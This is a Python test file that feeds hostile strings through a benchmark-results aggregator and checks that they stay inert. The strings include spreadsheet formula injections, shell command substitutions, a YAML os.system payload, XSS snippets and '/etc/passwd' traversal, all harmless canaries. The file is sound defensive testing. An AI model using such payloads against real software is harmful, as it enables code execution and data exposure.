"""Strings of strangers, in names of models, data sets and folders: nothing runs, nothing is written elsewhere, and
every reader of the tables finds the same texts."""

import contextlib
import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
import xml.etree.ElementTree as ElementTree
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import polars as pl
import pytest
from conftest import Project, frame_of, rows_of, tree_state
from evalscope_summary.columns import Column
from evalscope_summary.layouts import raw_columns
from evalscope_summary.problems import printable
from evalscope_summary.readers.evalscope.formats import ARGS, PERCENTILE, SUMMARY
from evalscope_summary.settings import complete
from evalscope_summary.tables.shown import on_a_terminal
from evalscope_summary.tables.xlsx import write_workbook

RUN = next((Path(__file__).parent / "fixtures" / "runs" / "1.9.1" / "spec").rglob(SUMMARY)).parent
LONGEST = 2**16  # characters of a label

SAME = [
    # would be run as a formula by a spreadsheet that takes text for one
    "=cmd|'/C touch HACKED'!A0",
    '=HYPERLINK("http://host/?"&A1)',
    "+1",
    "-1",
    "-1+1",
    "@SUM(1+1)",
    "%0A=1+1",
    # by a shell
    "$(touch HACKED)",
    "`touch HACKED`",
    "; touch HACKED #",
    "| touch HACKED",
    "&& touch HACKED",
    "' ; touch HACKED ; '",
    '" ; touch HACKED ; "',
    "> HACKED",
    "$HOME ~ * ? [a-z] !x",
    "--help",
    "-rf",
    # by Snakemake and Python
    "{wildcards}",
    "{input}",
    "{output.raw} {{log}} {",
    "{0.__class__} {config[results_dir]} %(name)s %s %n",
    "__import__('os').system('touch HACKED')",
    # by readers of YAML and HTML
    "!!python/object/apply:os.system ['touch HACKED']",
    "key: [a, {b: c}] # &anchor *alias",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>&lt;&#27;&#x1b;]]>",
    "[x](javascript:alert(1)) `c` **b** | d",
    "</table>\\",
    # by readers of CSV and workbooks
    "a,b;c",
    'say "hi", "',
    '"',
    "'",
    "_x0041_ _x001B_",
    "#N/A",
    "NaN",
    "null",
    "true",
    "1e5",
    "007",
    " spaces around ",
    "\\x1b as four characters",
    # as a path
    "../../neighbour/file",
    "..\\..\\neighbour\\file",
    "/etc/passwd",
    "~root",
    # what only looks odd
    "中文　模型",
    "👩\u200d💻 نمی\u200cخواهم",
]
SHOWN = {
    # text → what terminals and reports show of it
    "\t=1+1": "\\t=1+1",
    "\r=1+1": "\\r=1+1",
    "\n@SUM(1)": "\\n@SUM(1)",
    "two\r\nlines\x0b\x0c": "two\\r\\nlines\\x0b\\x0c",
    "nul\0nul": "nul\\x00nul",
    "\x1b]0;title\x07\x1b[2J": "\\x1b]0;title\\x07\\x1b[2J",
    "\x08\x7f\x9b31m\x85": "\\x08\\x7f\\x9b31m\\x85",
    "model\u202etxt.exe\u2066\u200f": "model\\u202etxt.exe\\u2066\\u200f",
    "zero\u200bwidth\u2060\ufeff\xad": "zero\\u200bwidth\\u2060\\ufeff\\xad",
    "lines\u2028\u2029": "lines\\u2028\\u2029",
    "\ufffe\uffff": "\\ufffe\\uffff",
}
STORED = {
    # text → what tables hold of it
    "half\ud83d": "half\\ud83d",
    "x" * LONGEST: "x" * LONGEST,
    "x" * 10**6: "x" * (LONGEST - 1) + "…",
    "😀" * 10**5: "😀" * (LONGEST - 1) + "…",
}
TEXTS = [(text, text) for text in (*SAME, *SHOWN)] + list(STORED.items())
LABELS = ("model", "name", "api", "dataset")
CONTROL = re.compile("[\0-\x09\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufffe\uffff]")
SETTINGS = {"formats": ["csv", "json", "parquet", "xlsx"]}


def can_be_a_folder(text: str) -> bool:
    with contextlib.suppress(UnicodeEncodeError):
        return not text.startswith(".") and not {"/", "\0"} & set(text) and len(os.fsencode(text)) < 200
    return False


def hostile_tree(tree: Path) -> None:
    """For every text a run in a folder of that name, with that text in its labels, and a damaged run beside it."""
    for number, (text, _) in enumerate(TEXTS):
        config = text if can_be_a_folder(text) else "plain"
        folder = tree / config / f"20260101_0000{number:02}" / "m"
        shutil.copytree(RUN, folder, ignore=lambda _, names: {*names} - {SUMMARY, ARGS, PERCENTILE})
        args = json.loads((folder / ARGS).read_bytes())
        args |= dict.fromkeys((*LABELS, "dataset_path", "outputs_dir", "tokenizer_path", "prompt"), text)
        (folder / ARGS).write_text(json.dumps(args))
        broken = tree / config / f"20260102_0000{number:02}" / "m"
        shutil.copytree(folder, broken)
        (broken / ARGS).write_text("{" + json.dumps(text))


def files(folder: Path, *but: Path) -> set[str]:
    return {str(path) for path in folder.rglob("*") if not any(path.is_relative_to(other) for other in but)}


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, checkout: Path, watch: Path) -> Any:
    """A project in which all tables of the hostile tree were made, and what was said."""
    outer = tmp_path_factory.mktemp("outer")
    project = Project(outer / "a" / "b" / "project", checkout, watch)
    hostile_tree(project.tree)
    (outer / "a" / "neighbour").mkdir()
    (outer / "a" / "neighbour" / "file").write_text("as it was")
    (outer / "home").mkdir()
    project.configure(**SETTINGS)
    before = tree_state(outer)
    with pytest.MonkeyPatch.context() as patch:
        for key, value in (("HOME", "home"), ("TMPDIR", "home"), ("XDG_CACHE_HOME", "a/b/project/.snakemake/cache")):
            patch.setenv(key, str(outer / value))
        patch.chdir(project.folder)
        said = project.snakemake().text
        said += project.snakemake("-p", "--config", "strict=true", succeeds=False).text
        command = [sys.executable, str(checkout / "scripts" / "evalscope_aggregator.py"), "--output", "plain"]
        done = subprocess.run(command, capture_output=True, encoding="utf-8", timeout=100)
    assert done.returncode == 0, done.stderr
    return project, outer, before, said + done.stdout + done.stderr


def expected(row: dict[str, Any]) -> str:
    return TEXTS[int(row["timestamp"][-2:])][1]


# --- nothing runs, nothing is written elsewhere ---


def test_nothing_is_run_and_nothing_is_written_elsewhere(made: Any) -> None:
    project, outer, before, _ = made
    own = [project.folder / ".snakemake", project.folder / ".evalscope-summary", project.log]
    tables = {str(path) for path in project.folder.glob("*") if re.match(r"summary|plain", path.name)}
    after = files(outer, *own)
    assert not [path for path in files(outer) if "HACKED" in path and path not in before]
    assert after - before.keys() == tables
    assert before.keys() - after == {str(outer)}
    assert (outer / "a" / "neighbour" / "file").read_text() == "as it was"
    names = [path.name for path in own[1].rglob("*") if path.is_file()]
    assert [name for name in names if not re.fullmatch(r"[\w.-]+", name)] == []


# --- the tables ---


def test_tables_hold_labels_as_they_are(made: Any) -> None:
    rows = json.loads((made[0].folder / "summary_raw.json").read_bytes())
    assert len(rows) == len(TEXTS)
    for row in rows:
        text, stored = TEXTS[int(row["timestamp"][-2:])]
        assert {name: row[name] for name in LABELS} == dict.fromkeys(LABELS, stored)
        assert row["config"] == (stored if can_be_a_folder(text) else "plain")
        assert row["run"] == f"{row['config']}/{row['timestamp']}/m"


def test_the_plain_command_writes_the_same_bytes(made: Any) -> None:
    folder = made[0].folder
    for table in ("raw", "stats", "problems"):
        assert (folder / f"plain_{table}.csv").read_bytes() == (folder / f"summary_{table}.csv").read_bytes()


def by_pandas(path: Path) -> list[dict[str, Any]]:
    return pd.read_csv(path, dtype=str, keep_default_na=False).to_dict("records")


def by_polars(path: Path) -> list[dict[str, Any]]:
    return pl.read_csv(path, infer_schema=False).fill_null("").to_dicts()


def by_duckdb(path: Path) -> list[dict[str, Any]]:
    found = duckdb.sql(f"SELECT * FROM read_csv('{path}', all_varchar = true, header = true)")
    return [dict(zip(found.columns, (cell or "" for cell in row), strict=True)) for row in found.fetchall()]


@pytest.mark.parametrize("reader", [by_pandas, by_polars, by_duckdb])
@pytest.mark.parametrize("table", ["overview", "raw", "stats", "problems"])
def test_readers_of_csv_agree_on_every_cell(made: Any, reader: Callable[[Path], Any], table: str) -> None:
    path = made[0].folder / f"summary_{table}.csv"
    rows = rows_of(path)
    assert len(rows) >= len(TEXTS)
    assert reader(path) == rows


def test_csv_json_and_parquet_hold_the_same_texts(made: Any) -> None:
    folder = made[0].folder
    texts = [column.name for column in raw_columns(complete({})) if column.type == "text"]
    rows = json.loads((folder / "summary_raw.json").read_bytes())
    of_json = [[row[name] or "" for name in texts] for row in rows]
    assert [[row[name] for name in texts] for row in rows_of(folder / "summary_raw.csv")] == of_json
    frame = pl.read_parquet(folder / "summary_raw.parquet", columns=texts)
    assert [[cell or "" for cell in row] for row in frame.iter_rows()] == of_json


def test_the_workbook_holds_texts_as_texts_that_fit_into_cells(made: Any) -> None:
    path = made[0].folder / "summary.xlsx"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            assert not [e for e in ElementTree.fromstring(archive.read(name)).iter() if e.tag.endswith("}f")], name
    head, *rows = openpyxl.load_workbook(path)["raw"].iter_rows()
    assert len(rows) == len(TEXTS)
    for cells in rows:
        row = {name.value: cell for name, cell in zip(head, cells, strict=True)}
        stored = expected({"timestamp": row["timestamp"].value})
        for name in LABELS:
            cell = row[name]
            value = openpyxl.utils.escape.unescape(cell.value)
            stored = stored.replace("\ufffe\uffff", "\\ufffe\\uffff")  # XML has no such characters
            assert cell.data_type == "s"
            assert len(value.encode("utf-16-le")) <= 2 * 32767
            assert value == stored or (value.endswith("…") and stored.startswith(value[:-1])), name


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("x" * 32767, "x" * 32767),
        ("x" * 32768, "x" * 32766 + "…"),
        ("😀" * 16383 + "x", "😀" * 16383 + "x"),
        ("😀" * 16384, "😀" * 16383 + "…"),
        ("x" + "😀" * 16384, "x" + "😀" * 16382 + "…"),
    ],
    ids=range(5),
)
def test_a_cell_of_a_workbook_is_cut_where_excel_ends_it(tmp_path: Path, text: str, cell: str) -> None:
    columns = (Column("t", "text", "", ""),)
    write_workbook(tmp_path / "t.xlsx", {"t": (columns, frame_of(columns, [{"t": text}]))})
    assert openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]["A2"].value == cell


def test_a_report_in_markdown_has_its_columns_and_no_markup_of_strangers(made: Any) -> None:
    text = (made[0].folder / "summary_overview.md").read_text("utf-8")
    lines = [line for line in text.split("\n") if line.startswith("|")]
    assert len(lines) == len(TEXTS) + 2
    assert len({len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in lines}) == 1
    assert not CONTROL.search(text)
    assert not re.search(r"(?<!\\)<", text)
    assert max(map(len, lines)) < 5000


# --- what is said ---


def test_a_terminal_gets_no_control_characters(made: Any) -> None:
    project, _, _, said = made
    overview = on_a_terminal(project.folder / "summary_overview.csv", complete({}), 200)
    logs = [path.read_text("utf-8") for path in project.folder.glob(".evalscope-summary/*/logs/*.log")]
    assert "20260102_0000" in said
    for text in (said, overview, *logs):
        assert not CONTROL.search(text), CONTROL.search(text)


def test_a_terminal_that_lacks_the_characters_gets_escapes(made: Any, tmp_path: Path) -> None:
    project = made[0]
    command = [sys.executable, str(project.checkout / "scripts" / "evalscope_aggregator.py")]
    environment = {**os.environ, "PYTHONIOENCODING": "ascii:strict"}
    done = subprocess.run(
        [*command, "--results-dir", str(project.tree)], cwd=tmp_path, env=environment, capture_output=True, timeout=100
    )
    assert done.returncode == 0, done.stderr[-1000:]
    assert b"\\u4e2d\\u6587" in done.stdout
    assert (tmp_path / "summary_raw.csv").read_bytes() == (project.folder / "summary_raw.csv").read_bytes()


def test_a_problem_names_a_folder_as_the_table_does(made: Any) -> None:
    folders = {text: stored for text, stored in TEXTS if can_be_a_folder(text)}
    found = {row["run"] for row in rows_of(made[0].folder / "summary_problems.csv") if row["severity"] == "skipped"}
    assert {run.split("/2")[0] for run in found} == {*folders.values(), "plain"}


def test_of_all_characters_those_that_can_be_seen_are_kept_and_no_dangerous_ones() -> None:
    turning = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    for character in map(chr, range(sys.maxunicode + 1)):
        kept = printable(character) == character
        category = unicodedata.category(character)
        if category[0] in "LMNPS" or category == "Zs":
            assert kept or character == "\u180e", ascii(character)  # which was a space in Unicode 6.2
        elif kept:
            assert category in ("Cf", "Co", "Cn"), ascii(character)
            assert unicodedata.bidirectional(character) not in turning, ascii(character)
            assert character not in "\ufffe\uffff", "XML has no such character"


@pytest.mark.parametrize(("text", "shown"), [*((text, text) for text in SAME), *SHOWN.items()])
def test_what_was_made_printable_stays_as_it_is(text: str, shown: str) -> None:
    assert printable(text) == shown
    assert printable(shown) == shown
